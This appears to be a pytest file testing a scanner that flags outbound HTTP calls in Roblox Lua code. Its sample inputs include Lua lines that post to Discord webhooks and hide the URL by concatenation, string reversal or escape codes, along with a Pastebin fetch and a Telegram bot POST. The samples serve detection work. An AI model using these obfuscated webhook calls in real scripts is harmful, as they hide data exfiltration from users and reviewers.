from __future__ import annotations

import pytest

from .sources import found

SERVICE = 'local http = game:GetService("HttpService") '


@pytest.mark.parametrize(
    "source",
    [
        'local hook = "https://discord.com/api/webhooks/1/abc"',
        'local hook = "https://discord" .. "app.com/api/" .. "webhooks/1/abc"',
        'local hook = ("cba/1/skoohbew/ipa/moc.drocsid//:sptth"):reverse() http:PostAsync(hook, x)',
        'local hook = "https://discord.com/api/\\119ebhooks/1/abc"',
        SERVICE + 'http:GetAsync("https://pastebin.com/raw/abc")',
        SERVICE + 'http:RequestAsync({Url = "https://api.telegram.org/bot1/x", Method = "POST"})',
    ],
)
def test_webhooks_and_pastes(source):
    assert ("http-webhook", 1) in found(source)


@pytest.mark.parametrize(
    "source",
    [
        SERVICE + 'http:GetAsync("https://example.com/questions.json")',
        'game.HttpService:PostAsync("https://example.com/score", "{}")',
        'game["HttpService"]:GetAsync("https://example.com/" .. "a")',
        'http:RequestAsync({Url = "https://example.com", Method = "GET"})',
    ],
)
def test_plain_requests_name_the_host(source):
    assert found(source) == {("http-request", 1)}


@pytest.mark.parametrize(
    "source", [SERVICE + "http:PostAsync(address, body)", "http:RequestAsync(options)"]
)
def test_addresses_made_at_run_time(source):
    assert found(source) == {("http-unknown", 1)}


@pytest.mark.parametrize(
    "source",
    [
        'store:GetAsync("points")',
        "local ok, points = pcall(store.GetAsync, store, key)",
        SERVICE + "http:JSONEncode(points)",
        'local text = "webhooks are explained at https://example.com"',
    ],
)
def test_what_is_no_request(source):
    assert found(source) == set()
